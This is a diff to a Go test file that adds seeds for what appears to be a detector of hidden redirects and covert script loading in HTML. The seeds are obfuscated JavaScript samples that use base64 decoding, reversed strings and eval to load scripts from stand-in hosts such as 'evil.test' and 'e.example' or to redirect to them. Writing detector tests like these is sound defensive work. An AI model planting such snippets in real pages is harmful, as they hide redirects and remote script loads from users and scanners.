@@ -195,6 +195,8 @@ func TestHiddenRedirectLinear(t *testing.T) {
 		"document.write(atob(document.getElementById('d').textContent));<i id=d>",
 		"var p=['QUFB','QUFB'].join('');document.write(atob(p));",
 		"<iframe id=v name=n></iframe>fs[1].src=u;v.src=u;window.v.src=u;document.getElementsByName('n')[0].src=u;",
+		"var s=document.createElement('script');var k='" + base64.StdEncoding.EncodeToString([]byte(`{"a":"`+strings.Repeat("x", 1400)+`","u":"/a.js"}`)) + "';var c=JSON.parse(atob(k));s.src=JSON.parse(atob(k)).u;s.src=c[i];s.src=c.u;",
+		"s.src=JSON.parse(atob('" + long,
 	} {
 		small := []byte("<script>" + strings.Repeat(unit, 2000) + "</script>")
 		big := []byte("<script>" + strings.Repeat(unit, 8000) + "</script>")
@@ -227,6 +229,7 @@ func FuzzHiddenRedirect(f *testing.F) {
 	f.Add([]byte("<script>// don't\nvar r=s.replace(/[\"'`]/g,'');/* it's */var q=decodeURIComponent(new URLSearchParams(location.search).get('n')||'');var d=atob(localStorage.getItem('k')||k);a.setAttribute('href',d);a.click();navigation.navigate(q)</script>"))
 	f.Add([]byte(`<iframe id=f></iframe><script>var f=document.createElement('iframe');f.src=atob(x);document.getElementById('f').setAttribute('src',"moc.tset.live//:sptth".split('').reverse().join(''))</script>`))
 	f.Add([]byte(`<iframe name=n id=v></iframe><iframe><script>var fs=document.querySelectorAll('iframe');fs[1].src=atob(k);v.src=atob(k);window.v.src=u;document.getElementsByName('n')[0].src=atob(k);document.getElementsByTagName("iframe")[0].src=atob(k)</script>`))
+	f.Add([]byte(`<script>var k="eyJ1IjoiaHR0cHM6Ly9lLmV4YW1wbGUvIiwiYSI6WzEseyJiIjoiLy94In1dfQ==";var c=JSON.parse(atob(k));var s=document.createElement('script');s.src=JSON.parse(atob(k)).u;s.src=c.a[1].b;s.src=c[i];s.setAttribute('src',JSON.parse(decodeURIComponent('%22%2F%2Fx%22')));s.src=c?.u.trim()</script>`))
 	f.Add([]byte(`<IFRAME ID=A></IFRAME><img id=b><frameset id=c><frame id="d" src=x><iframe id=e width=0<script>var i=document.getElementById('b');i.src=atob(k);document.querySelector('#a').src=atob(k);document.querySelector("#d .x").src=atob(k);document.getElementById(n).src=u</script><iframe id="`))
 	f.Add([]byte(`<script>var r='nigol/tset.live//:sptth';var u=Array.from(r).reverse().join('');location.replace([...'x'].reverse().join(''));localStorage.setItem('h','evil.test');location.href=localStorage.getItem('h');Reflect.apply(eval,null,[atob(k)])</script>`))
 	f.Fuzz(func(t *testing.T, doc []byte) {
